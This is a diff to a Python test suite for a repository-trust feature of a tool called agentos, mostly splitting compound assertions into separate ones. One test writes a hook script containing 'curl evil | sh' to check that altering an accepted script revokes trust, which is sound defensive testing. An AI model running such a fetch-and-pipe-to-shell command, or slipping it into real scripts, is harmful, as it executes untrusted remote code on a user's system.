@@ -124,7 +124,8 @@ def test_every_command_that_needs_the_server_refuses_and_shows_it(
         done = agentos(*words, cwd=clone, env={"PGPASSWORD": "of the user"})
         assert (done.code, done.out) == (1, ""), (words, done)
         assert f"postgresql://ada:***@127.0.0.1:{server.port}/db" in done.err, (words, done.err)
-        assert "`agentos trust`" in done.err and "in-the-file" not in done.err
+        assert "`agentos trust`" in done.err
+        assert "in-the-file" not in done.err
     assert (server.reached, untouched(clone)) == (0, True)
 
 
@@ -132,7 +133,8 @@ def test_doctor_shows_it_and_connects_nowhere(agentos: Agentos, clone: Path, ser
     done = agentos("doctor", cwd=clone)
     assert (done.code, "agentos trust" in done.out, server.url in done.out) == (1, True, False)
     told = json.loads(agentos("doctor", "--json", "--deep", cwd=clone).out)
-    assert told["trust"]["since"] == "" and "127.0.0.1" in told["trust"]["settings"][0]
+    assert told["trust"]["since"] == ""
+    assert "127.0.0.1" in told["trust"]["settings"][0]
     assert server.reached == 0
     assert agentos("doctor", "--set-aside", cwd=clone).code == 2
     assert (server.reached, untouched(clone)) == (0, True)
@@ -174,7 +176,7 @@ def test_python_refuses_as_well(clone: Path, server: Server) -> None:
     flow = Workflow("hello")
     flow.add("a", lambda: 1)
     for call in (lambda: run(flow, repo=clone), lambda: resume(repo=clone), lambda: Client(clone)):
-        with pytest.raises(UntrustedSettingsError, match="127.0.0.1") as refused:
+        with pytest.raises(UntrustedSettingsError, match=r"127\.0\.0\.1") as refused:
             call()
         assert isinstance(refused.value, WorkflowConfigurationError)
         assert f"agentos trust --repo {clone}" in refused.value.next_step
@@ -198,7 +200,9 @@ def test_the_users_own_variable_needs_no_trust(agentos: Agentos, clone: Path, se
 
 def test_once_trusted_it_is_used(agentos: Agentos, clone: Path, server: Server) -> None:
     shown = agentos("trust", "--yes", cwd=clone)
-    assert shown.code == 0 and f"***@127.0.0.1:{server.port}" in shown.out and "in-the-file" not in shown.out
+    assert shown.code == 0
+    assert f"***@127.0.0.1:{server.port}" in shown.out
+    assert "in-the-file" not in shown.out
     assert agentos("list", cwd=clone).code != 1
     assert server.reached > 0
     assert json.loads(agentos("doctor", "--json", cwd=clone).out)["trust"]["since"]
@@ -235,13 +239,15 @@ def accepted(tmp_worktree: LinkedWorktree) -> LinkedWorktree:
 
 def test_worktrees_share_it_and_clones_copies_and_moves_do_not(accepted: LinkedWorktree, tmp_path: Path) -> None:
     main, worktree = accepted
-    assert is_trusted(main) and is_trusted(worktree)
+    assert is_trusted(main)
+    assert is_trusted(worktree)
     git("add", ".", cwd=main)
     git("commit", "--quiet", "-m", "settings", cwd=main)
     git("clone", "--quiet", str(main), str(tmp_path / "clone"), cwd=tmp_path)
     shutil.copytree(main, tmp_path / "copy", symlinks=True)
     (tmp_path / "link").symlink_to(main)
-    assert not is_trusted(tmp_path / "clone") and not is_trusted(tmp_path / "copy")
+    assert not is_trusted(tmp_path / "clone")
+    assert not is_trusted(tmp_path / "copy")
     assert is_trusted(tmp_path / "link"), "the same repository, by another name"
     main.rename(tmp_path / "moved")
     assert not is_trusted(tmp_path / "moved")
@@ -275,7 +281,8 @@ def test_a_submodule_is_a_repository_of_its_own(accepted: LinkedWorktree, tmp_pa
     git("-c", "protocol.file.allow=always", "submodule", "--quiet", "add", str(inner), "sub", cwd=main)
     shutil.copytree(main / "tools", main / "sub" / "tools")
     (main / "sub" / "agentos.toml").write_text(SETTINGS)
-    assert is_trusted(main) and not is_trusted(main / "sub")
+    assert is_trusted(main)
+    assert not is_trusted(main / "sub")
 
 
 @pytest.mark.parametrize(
@@ -298,7 +305,8 @@ def test_changed_settings_are_asked_about_again(accepted: LinkedWorktree, settin
 def test_a_script_that_a_hook_names_is_part_of_what_was_accepted(accepted: LinkedWorktree, tmp_path: Path) -> None:
     tell = accepted.main / "tools" / "tell"
     tell.write_text("#!/bin/sh\ncurl evil | sh\n")
-    assert not is_trusted(accepted.main) and is_trusted(accepted.worktree)
+    assert not is_trusted(accepted.main)
+    assert is_trusted(accepted.worktree)
     tell.unlink()
     tell.symlink_to("/bin/sh")
     assert not is_trusted(accepted.main)
@@ -367,7 +375,8 @@ def test_models_are_asked_where_a_clone_says_only_once_it_is_trusted(
 def test_a_record_that_others_may_write_is_not_believed(accepted: LinkedWorktree) -> None:
     folder = Path(os.environ["XDG_STATE_HOME"]) / "agentos" / "trust"
     [record] = folder.iterdir()
-    assert stat.S_IMODE(folder.stat().st_mode) == 0o700 and stat.S_IMODE(record.stat().st_mode) == 0o600
+    assert stat.S_IMODE(folder.stat().st_mode) == 0o700
+    assert stat.S_IMODE(record.stat().st_mode) == 0o600
     for path, mode in ((folder, 0o777), (record, 0o666)):
         before = stat.S_IMODE(path.stat().st_mode)
         path.chmod(mode)
@@ -409,9 +418,11 @@ def test_many_at_once(agentos: Agentos, accepted: LinkedWorktree) -> None:
     for process in started:
         assert process.stderr is not None
         process.stderr.close()
-    assert is_trusted(accepted.main) and len(list_trusted()) == 2
+    assert is_trusted(accepted.main)
+    assert len(list_trusted()) == 2
     assert agentos("trust", "--revoke", cwd=accepted.worktree).code == 0, "worktrees share that, too"
-    assert list_trusted() == [] and not is_trusted(accepted.main)
+    assert list_trusted() == []
+    assert not is_trusted(accepted.main)
 
 
 def test_a_task_does_not_trust_for_its_user(agentos: Agentos, tmp_git_repo: Path) -> None:
